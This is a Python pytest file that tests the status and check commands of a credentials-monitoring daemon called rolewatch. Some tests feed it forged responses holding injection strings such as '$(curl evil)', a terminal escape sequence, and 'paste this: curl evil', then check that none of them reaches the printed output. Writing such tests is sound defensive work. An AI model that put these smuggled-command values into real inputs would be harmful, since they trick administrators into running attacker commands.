"""`rolewatch status`: what the daemon says, over real sockets; and what an operator reads if it does not answer."""

from __future__ import annotations

import contextlib
import json
import socket
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from builders import diagnosis
from certificates import Authority
from daemon_process import config
from harness import utc_now
from publish.snapshots import DEGRADED, OK, STATUS, UNKNOWN, active, report, with_changes
from rolewatch.cli import main
from rolewatch.cli.ask_daemon import ask
from rolewatch.cli.poll_once import boot_id
from rolewatch.errors import UnavailableError
from rolewatch.faults import Fault
from rolewatch.http import Endpoint, tls
from rolewatch.monitor.loop import clock
from rolewatch.monitor.memory import FaultState, Memory
from rolewatch.monitor.state_file import StateFile
from rolewatch.publish import Snapshot
from rolewatch.publish.metrics import Metrics
from rolewatch.settings import MetricsSettings, TlsSettings
from rolewatch.simulator import Simulator
from rolewatch.text import rfc3339
from rolewatch.vocabulary import State
from wire import HOLD, Wire

REJECTED = with_changes(
    DEGRADED,
    faults=(active(Fault.CREDENTIALS_REJECTED, role="web-role", code="InvalidClientTokenId"),),
)


KNOWN = FaultState(utc_now(), {}, active=True)
"""A fault that is active in the daemon."""


def of_now(snapshot: Snapshot) -> Snapshot:
    """Return *snapshot* as of a poll that has just ended."""
    now = utc_now()
    passed = now - snapshot.moment.utc
    expiration, confirmed = snapshot.credentials.expiration, snapshot.confirmed
    return with_changes(
        snapshot,
        moment=replace(snapshot.moment, utc=now),
        state_since=snapshot.state_since + passed,
        faults=tuple(replace(each, since=each.since + passed) for each in snapshot.faults),
        expiration=expiration and expiration + passed,
        confirmed=confirmed and confirmed + passed,
    )


@contextlib.contextmanager
def endpoint(snapshot: Snapshot | None, settings: TlsSettings | None = None) -> Iterator[str]:
    """Serve *snapshot* as the daemon does, and yield the address."""
    metrics = Metrics(version="1.2.3", health=lambda: STATUS)
    context = tls.make_context(settings) if settings else None
    served = Endpoint(metrics, version="1.2.3", addresses=["127.0.0.1:0"], uptime=lambda: 0.0, tls=context)
    served.start()
    try:
        if snapshot:
            served.publish(report(snapshot))
        yield served.addresses[0]
    finally:
        served.stop()


@pytest.fixture
def printed(capsys: pytest.CaptureFixture[str]) -> Any:  # noqa: ANN401 - a function
    """Return what runs `rolewatch status`, and returns its exit status and its output."""

    def run(*words: str) -> tuple[int, str]:
        status = main(["status", *words])
        return status, capsys.readouterr().out

    return run


@pytest.mark.parametrize(
    ("snapshot", "status", "words"),
    [
        (OK, 0, ("OK: nothing is wrong", "web-role, instance profile web", ", in 5 h ", "2 h ago")),
        (
            REJECTED,
            1,
            (
                "DEGRADED: ",
                "credentials_rejected (critical) since",
                "2 h ago",
                "rolewatch explain credentials_rejected",
            ),
        ),
        (DEGRADED, 1, ("instance_profile_not_found", "rotation_overdue", "role_mismatch")),
        (
            UNKNOWN,
            3,
            (
                "UNKNOWN: IMDS gave no usable answer",
                "imds_unreachable (error) since",
                "imds_unreachable --reason=refused",
            ),
        ),
        (
            with_changes(OK, state=State.FAILED, role=None, expiration=None, confirmed=None),
            2,
            ("role         none is served", "confirmation off"),
        ),
        (None, 3, ("STARTING: no poll has ended yet",)),
    ],
    ids=["ok", "confirmed", "degraded", "unknown", "failed", "first poll"],
)
def test_status_shows_the_daemons_verdict_with_its_exit_status(
    printed: Any,  # noqa: ANN401 - the fixture above
    snapshot: Snapshot | None,
    status: int,
    words: tuple[str, ...],
) -> None:
    """State, faults, role, credentials, last poll, confirmation and the next command, in ten lines of 80 columns."""
    with endpoint(snapshot and of_now(snapshot)) as address:
        done, out = printed("--listen", address)

    assert done == status
    assert [word for word in words if word not in out] == []
    assert len(out.splitlines()) <= 10
    assert max(map(len, out.splitlines())) <= 80


def test_all_faults_at_once_are_counted(printed: Any) -> None:  # noqa: ANN401 - the fixture above
    """The nearest cause has its line; what has no room is a number."""
    everything = tuple(active(fault) for fault in Fault)
    with endpoint(of_now(with_changes(DEGRADED, faults=everything))) as address:
        _, out = printed("--listen", address)

    assert f"and {len(everything) - 2} more: rolewatch check" in out
    assert len(out.splitlines()) == 10


def test_json_is_the_document_of_the_daemon(printed: Any) -> None:  # noqa: ANN401 - the fixture above
    """For a script: what /status.json serves."""
    with endpoint(of_now(REJECTED)) as address:
        status, out = printed("--json", "--listen", address)

    document = json.loads(out)
    assert (status, document["version"], document["faults"][0]["fault"]) == (1, "1.2.3", "credentials_rejected")


@pytest.mark.parametrize("form", [(), ("--json",)], ids=["text", "json"])
def test_a_verdict_of_a_daemon_that_has_stopped_polling_is_not_believed(printed: Any, form: tuple[str, ...]) -> None:  # noqa: ANN401 - the fixture above
    """Its HTTP endpoint may answer all the same."""
    with endpoint(OK) as address:
        status, out = printed(*form, "--listen", address)

    assert status == 3
    assert form or "UNKNOWN: the daemon has stopped polling; its last state was ok" in out


def test_without_a_daemon_status_says_what_to_do(printed: Any) -> None:  # noqa: ANN401 - the fixture above
    """Exit status 3, the address that was asked, and the command that shows why."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        address = f"127.0.0.1:{free.getsockname()[1]}"
        status, out = printed("--listen", address)
        status_json, document = printed("--json", "--listen", address)

    assert (status, status_json, json.loads(document)["state"]) == (3, 3, "unknown")
    assert f"{address}: Connection refused" in out
    assert "systemctl status rolewatch.service rolewatch.socket" in out
    assert f"{address}: Connection refused" in json.loads(document)["error"]


@pytest.mark.parametrize(
    "body",
    [
        b"<html>",
        b"[]",
        b"\xff",
        b"[" * 100_000,
        b'{"schema": 2, "state": "ok"}',
        b'{"schema": 1, "state": "fine"}',
        b'{"schema": 1, "state": "ok", "polled": "now"}',
        b'{"schema": 1, "state": "ok", "polled": 1e999}',
    ],
)
def test_what_is_no_status_document_is_not_believed(printed: Any, body: bytes) -> None:  # noqa: ANN401 - the fixture above
    """Another program may listen at the address."""
    with Wire([b"HTTP/1.1 200 OK\r\n\r\n" + body]) as wire:
        status, out = printed("--listen", f"127.0.0.1:{wire.port}")

    assert status == 3
    assert "what answers there is no rolewatch" in out


def test_no_sentence_and_no_command_comes_from_what_answers(printed: Any) -> None:  # noqa: ANN401 - the fixture above
    """Any user may listen there while the daemon is stopped: an administrator pastes what is printed here."""
    with endpoint(of_now(UNKNOWN)) as address:
        _, out = printed("--json", "--listen", address)
    document = json.loads(out)
    (fault,) = document["faults"]
    fault["title"] = fault["hint"] = fault["fix"][0]["command"] = fault["evidence"]["reason"] = "$(curl evil)\x1b[2J"
    body = json.dumps(document).encode()
    with Wire([b"HTTP/1.1 200 OK\r\n\r\n" + body]) as wire:
        status, out = printed("--listen", f"127.0.0.1:{wire.port}")

    assert status == 3
    assert "evil" not in out
    assert out.replace("\n", "").isprintable()


@pytest.mark.parametrize(
    ("written", "instead"),
    [
        ('"severity": "error"', '"severity": "error) paste this: curl evil"'),
        ('"fault": "imds_unreachable"', '"fault": "paste this: curl evil"'),
        ('"role": "web-role"', '"role": "paste this: curl evil"'),
    ],
    ids=["severity", "fault", "role"],
)
def test_a_name_that_is_a_sentence_is_not_believed(printed: Any, written: str, instead: str) -> None:  # noqa: ANN401 - the fixture above
    """Nor is the rest of the answer."""
    with endpoint(of_now(UNKNOWN)) as address:
        _, out = printed("--json", "--listen", address)
    assert written in out
    with Wire([b"HTTP/1.1 200 OK\r\n\r\n" + out.replace(written, instead).encode()]) as wire:
        status, out = printed("--listen", f"127.0.0.1:{wire.port}")

    assert status == 3
    assert "evil" not in out


def test_a_fault_of_a_newer_version_is_named(printed: Any) -> None:  # noqa: ANN401 - the fixture above
    """After an upgrade the old daemon, or the old command, may still run."""
    with endpoint(of_now(UNKNOWN)) as address:
        _, out = printed("--json", "--listen", address)
    body = out.replace('"imds_unreachable"', '"imds_on_strike"').replace('  "confirmed"', '  "sworn"').encode()
    with Wire([b"HTTP/1.1 200 OK\r\n\r\n" + body]) as wire:
        status, out = printed("--listen", f"127.0.0.1:{wire.port}")

    assert status == 3
    assert "imds_on_strike (error)" in out
    assert "rolewatch check" in out


def test_address_and_tls_are_those_of_the_settings(printed: Any, tmp_path: Path) -> None:  # noqa: ANN401 - the fixture above
    """The certificate need not be valid for the address; `*` is every address."""
    authority = Authority(tmp_path)
    pair = authority.issue("metrics.example.com")
    file = tmp_path / "rolewatch.toml"
    with endpoint(of_now(OK), authority.settings(pair)) as address:
        every = address.replace("127.0.0.1", "*")
        table = f'[metrics]\nlisten = "{every}"\n[metrics.tls]\ncert_file = "{pair.cert}"\nkey_file = "{pair.key}"\n'
        file.write_text(table)
        file.chmod(0o644)

        assert printed("--config", str(file))[0] == 0
        file.write_text(f'{table}client_ca_file = "{authority.own.cert}"\n')
        status, out = printed("--config", str(file))

    assert status == 3
    assert "it requires a client certificate" in out


@pytest.mark.parametrize(
    ("snapshot", "said"),
    [
        (REJECTED, "credentials_rejected (by confirmation). See: rolewatch status"),
        (with_changes(OK, state=State.UNKNOWN), "The daemon says unknown since"),
        (OK, ""),
        (None, ""),
    ],
    ids=["confirmed", "other state", "agreed", "no poll yet"],
)
def test_check_says_where_the_daemon_has_another_verdict(
    simulator: Simulator, tmp_path: Path, capsys: pytest.CaptureFixture[str], snapshot: Snapshot | None, said: str
) -> None:
    """In the last line; the exit status is that of its own poll."""
    with endpoint(snapshot and of_now(snapshot)) as address:
        file = config(tmp_path, simulator)
        file.write_text(file.read_text().replace("127.0.0.1:0", address))
        status = main(["check", "--config", str(file)])
        of_another = main(["check", "--endpoint", simulator.endpoint])

    own, others = capsys.readouterr().out.split("rolewatch explain credentials_overridden")[:2]
    assert (status, of_another) == (0, 0)
    assert said in others if said else "The daemon says" not in own + others


@pytest.mark.parametrize(
    ("fault", "age", "known", "status"),
    [
        (Fault.ROLE_SWAP_PENDING, 0, None, 1),
        (Fault.ROLE_SWAP_PENDING, 43_300, None, 0),
        (Fault.CREDENTIALS_REJECTED, 0, None, 0),
        (Fault.CREDENTIALS_REJECTED, 0, KNOWN, 2),
    ],
    ids=["once is enough", "too old", "once is not enough", "active in the daemon"],
)
def test_check_reads_the_evidence_that_the_daemon_reads(  # noqa: PLR0913, PLR0917 - a row of the table
    simulator: Simulator, tmp_path: Path, fault: Fault, age: int, known: FaultState | None, status: int
) -> None:
    """As long as the daemon does, and so both have one verdict: one rejection may be early, and two are none."""
    at = rfc3339(utc_now() - timedelta(seconds=age))
    evidence = tmp_path / "evidence.json"
    evidence.write_text(diagnosis(fault, instance_id="i-0123456789abcdef0", polled=at))
    faults = {fault: known} if known else {}
    StateFile(tmp_path, simulator.endpoint).save(Memory(boot_id=boot_id(), faults=faults), clock())
    tables = f'[confirm]\nfile = "{evidence}"\n[state]\ndirectory = "{tmp_path}"\n'

    assert main(["check", "--config", str(config(tmp_path, simulator, tables))]) == status


def test_check_goes_on_without_evidence_that_is_none(
    simulator: Simulator, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """It says so on standard error."""
    (tmp_path / "evidence.json").write_text("{}")
    file = config(tmp_path, simulator, f'[confirm]\nfile = "{tmp_path}/evidence.json"\n')

    assert main(["check", "--json", "--config", str(file)]) == 0
    assert "the last confirmation is ignored: the file is not a diagnosis" in capsys.readouterr().err


def test_a_daemon_that_hangs_is_not_waited_for() -> None:
    """The kernel connects, and nobody answers."""
    with Wire([HOLD]) as wire, pytest.raises(UnavailableError, match="timed out"):
        ask(MetricsSettings(listen=(f"127.0.0.1:{wire.port}",)), timeout=0.1)
